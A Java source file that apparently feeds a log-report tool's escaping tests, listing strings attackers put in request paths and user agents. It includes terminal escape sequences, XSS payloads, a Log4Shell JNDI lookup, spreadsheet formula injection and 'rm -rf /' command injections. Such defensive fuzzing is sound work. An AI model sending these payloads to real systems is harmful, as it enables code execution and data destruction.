package dev.gatewhy.report;

import java.util.List;
import java.util.SplittableRandom;

/** What people put into paths and user agents to attack whoever looks at the log. */
final class Attacks {
  static final List<String> STRINGS =
      List.of(
          "\u001b[2J\u001b[H",
          "\u001b[31mred",
          "\u001b]0;title\u0007",
          "\u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\",
          "\u001b]52;c;cm0gLXJmIC8=\u0007",
          "\u001b[6n",
          "\u001bP+q544e\u001b\\",
          "\u001b[?1049h",
          "\u001bc",
          "\u009b31m",
          "\u009d0;x\u009c",
          "\u0090q\u009c",
          "a\rb",
          "a\nb",
          "a\r\n1  critical  forged",
          "\u0000",
          "\u0007\b\b\b",
          "\u007f",
          "\u000b\f",
          "\u0085next",
          "\u202egnp.exe",
          "\u2066\u2069",
          "\u200b\u200c\u200d",
          "\ufeff",
          "\u00ad",
          "\u2028\u2029",
          "\u061c",
          "\u180e",
          "\u3164",
          "\u2800",
          "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308",
          "\u20dd\u20e3",
          "\ud800",
          "\udc00\ud800",
          "\ufffe\uffff",
          "\ue000",
          "\udb40\udc41\udb40\udc42",
          "\ufe0f\ufe0e",
          "\u00a0\u2003\u3000",
          "<script>alert(1)</script>",
          "</script><script>x",
          "</style><style>*{}",
          "</title><img src=x onerror=alert(1)>",
          "\" onmouseover=\"alert(1)",
          "' autofocus onfocus='x",
          "<svg onload=alert(1)>",
          "<!--",
          "-->",
          "<![CDATA[",
          "<iframe src=javascript:alert(1)>",
          "javascript:alert(1)",
          "data:text/html,<b>x",
          "&lt;b&gt;",
          "&#60;b&#62;",
          "<math><mi//xlink",
          "<base href=//evil>",
          "<meta http-equiv=refresh content=0;url=//e>",
          "[x](http://evil.example)",
          "![x](http://evil.example/p.png)",
          "<http://evil.example>",
          "https://evil.example/x",
          "www.evil.example",
          "`code`",
          "```\nblock",
          "~~~",
          "# heading",
          "- item",
          "1. item",
          "> quote",
          "| a | b |",
          "***",
          "---",
          "[^1]: x",
          "$$x$$",
          "@everyone",
          "=cmd|'/c calc'!A1",
          "+1+1",
          "-2+3",
          "@SUM(1)",
          "\t=1",
          "\r=1",
          "=HYPERLINK(\"x\")",
          "${jndi:ldap://evil/x}",
          "{{7*7}}",
          "%s%n%x",
          "$(rm -rf /)",
          "`rm -rf /`",
          "'; rm -rf / #",
          "\\",
          "\\\"",
          "\"",
          "'",
          "\\u001b[31m",
          "\\x1b",
          "日本語ひらがな",
          "عربى",
          "😀👩‍👩‍👧",
          "x".repeat(500),
          "\u0301",
          " ",
          "  lead",
          "trail  ",
          "-",
          "null",
          "{duration}",
          "name{le=\"1\"} 2\n");

  private Attacks() {}

  /** One of them, or some one after the other, or any letters. */
  static String random(SplittableRandom random) {
    StringBuilder text = new StringBuilder();
    int parts = 1 + random.nextInt(3);
    for (int i = 0; i < parts; i++) {
      if (random.nextInt(4) == 0) {
        random.ints(1 + random.nextInt(6), 0, 0x11000).forEach(c -> text.append((char) c));
      } else {
        text.append(STRINGS.get(random.nextInt(STRINGS.size())));
      }
    }
    return text.toString();
  }
}
